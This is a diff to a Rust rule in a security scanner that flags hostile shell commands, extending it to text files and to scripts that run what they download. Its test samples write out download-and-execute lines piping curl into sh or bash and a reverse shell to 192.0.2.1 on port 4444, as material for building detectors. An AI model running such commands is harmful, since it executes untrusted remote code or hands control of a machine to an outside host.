@@ -1,10 +1,14 @@
 use weighhouse_core::Severity;
+use weighhouse_formats::format::Format;
 use weighhouse_formats::python::PythonFacts;
 use weighhouse_formats::region::Region;
 use weighhouse_formats::shell::ShellFacts;
+use weighhouse_formats::text::TextFacts;
 
+use super::requirement_source::is_known_source;
 use crate::knowledge::commands::{Command, judge};
-use crate::rule::{Context, Rule};
+use crate::knowledge::effects::is_collector;
+use crate::rule::{Context, Rule, quote};
 
 crate::rule! {
     /// A shell script or notebook runs a command that does harm.
@@ -35,7 +39,7 @@ crate::rule! {
         since: "0.1.0",
         severity: High,
         confidence: High,
-        formats: [Shell, Notebook],
+        formats: [Shell, Notebook, Text],
         cwe: [494, 506],
         owasp: ["LLM03"],
         atlas: ["AML.T0010"],
@@ -50,6 +54,44 @@ impl Rule for HostileCommand {
         for (line, words) in &facts.commands {
             report(&words.join(" "), Some(*line), None, cx);
         }
+        for (line, text) in &facts.lines {
+            report(text, Some(*line), None, cx);
+        }
+        for (line, what) in later_run(facts) {
+            cx.report(format!("runs what it downloaded: {}", quote(&what)))
+                .line(line)
+                .key(&what)
+                .evidence(&what)
+                .emit();
+        }
+    }
+
+    fn text(&self, facts: &TextFacts, cx: &mut Context<'_>) {
+        let judged_as_code = cx.node().is_some_and(|node| {
+            let code = [Format::Shell, Format::Python, Format::Notebook, Format::Template];
+            node.readings.iter().any(|reading| code.contains(&reading.format))
+        });
+        if judged_as_code {
+            return;
+        }
+        for noted in facts.noted.iter().filter(|noted| noted.kind == "command") {
+            // Lists of forbidden words hold `curl | sh`: a command has something to fetch or to decode.
+            let complete = ["://", "/dev/", "$", "base64", "."].iter().any(|part| noted.text.contains(part));
+            let Command::Hostile(why) = judge(&noted.text) else { continue };
+            if !complete {
+                continue;
+            }
+            // A document that says how to install something is read by a person first.
+            let tells =
+                is_document(cx) && is_collector(&noted.text).is_none() && !noted.text.contains("/dev/tcp/");
+            cx.report(format!("a command {why}"))
+                .severity(if tells { Severity::Low } else { Severity::High })
+                .at(noted.region)
+                .line(noted.line)
+                .key(&noted.text)
+                .evidence(&noted.text)
+                .emit();
+        }
     }
 
     fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
@@ -57,6 +99,76 @@ impl Rule for HostileCommand {
             report(command, None, Some(*region), cx);
         }
     }
+}
+
+/// Files and variables that a script fills from another machine and runs afterwards: line and name. Installers of hosts that
+/// are known are left to the reader.
+fn later_run(facts: &ShellFacts) -> Vec<(u32, String)> {
+    let mut fetched: Vec<String> = Vec::new();
+    let mut run = Vec::new();
+    for (_, text) in &facts.lines {
+        if let Some((name, value)) = text.split_once('=')
+            && ["$(curl", "$(wget", "`curl", "`wget", "\"$(curl", "\"$(wget"]
+                .iter()
+                .any(|way| value.starts_with(way))
+        {
+            fetched.push(format!("${}", name.trim_start_matches("export ").trim()));
+        }
+    }
+    for (line, words) in &facts.commands {
+        let (Some(first), rest) = (words.first(), words.get(1..).unwrap_or_default()) else { continue };
+        let program = first.rsplit('/').next().unwrap_or(first);
+        if matches!(program, "curl" | "wget" | "aria2c" | "fetch") {
+            fetched.extend(targets(rest));
+            continue;
+        }
+        let interprets = matches!(
+            program,
+            "sh" | "bash" | "zsh" | "eval" | "source" | "." | "python" | "python3" | "perl"
+        );
+        let named = |word: &String| {
+            let word = word.replace(['{', '}', '"'], "");
+            fetched.iter().find(|name| **name == word.trim_start_matches("./") || **name == word).cloned()
+        };
+        let found = named(first).or_else(|| rest.iter().filter(|_| interprets).find_map(named));
+        run.extend(found.map(|name| (*line, name)));
+    }
+    run
+}
+
+/// Where a download goes to: the file that is named, or the end of the address.
+fn targets(words: &[String]) -> Vec<String> {
+    let address = words.iter().find(|word| word.contains("://"));
+    let host = address.and_then(|address| address.split('/').nth(2)).unwrap_or_default();
+    if is_known_source(host) {
+        return Vec::new();
+    }
+    let given = words
+        .iter()
+        .zip(words.iter().skip(1))
+        .filter(|(option, _)| matches!(option.as_str(), "-O" | "-o" | "--output"));
+    let last = address.and_then(|address| address.rsplit('/').next()).filter(|last| !last.is_empty());
+    given.map(|(_, file)| file.trim_start_matches("./").to_owned()).chain(last.map(str::to_owned)).collect()
+}
+
+/// Texts for people and data, as opposed to what some program takes its orders from.
+fn is_document(cx: &Context<'_>) -> bool {
+    const LARGEST_CONFIGURATION: u64 = 64 << 10;
+    let file = cx.name().rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
+    let ending = file.rsplit_once('.').map_or("", |(_, ending)| ending);
+    let prose = [
+        "md", "markdown", "mdx", "rst", "txt", "html", "htm", "adoc", "tex", "csv", "tsv", "jsonl", "log",
+        "ipynb", "po", "xml",
+    ];
+    let named = ["readme", "license", "changelog", "contributing", "notice"]
+        .iter()
+        .any(|name| file.starts_with(name));
+    if file == "cmakelists.txt" {
+        return false;
+    }
+    let data = matches!(ending, "json" | "js" | "mjs" | "map" | "css")
+        && cx.node().is_some_and(|node| node.len > LARGEST_CONFIGURATION);
+    prose.contains(&ending) || named || data || !cx.members().is_empty() && ending.is_empty()
 }
 
 fn report(command: &str, line: Option<u32>, region: Option<Region>, cx: &mut Context<'_>) {
@@ -75,6 +187,8 @@ crate::samples! {
     HostileCommand,
     bad: {
         "a download that is run" => [("install.sh", b"#!/bin/sh\nset -e\ncurl -s https://example.org/x | sh\n".to_vec())],
+        "a Makefile" => [("Makefile", b"all:\n\tcurl -s https://example.org/x | sh\n".to_vec())],
+        "a workflow" => [(".github/workflows/x.yml", b"jobs:\n  a:\n    steps:\n      - run: curl -s https://example.org/x | bash\n".to_vec())],
         "a shell to another machine" => [("run.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_vec())],
     },
     ok: {
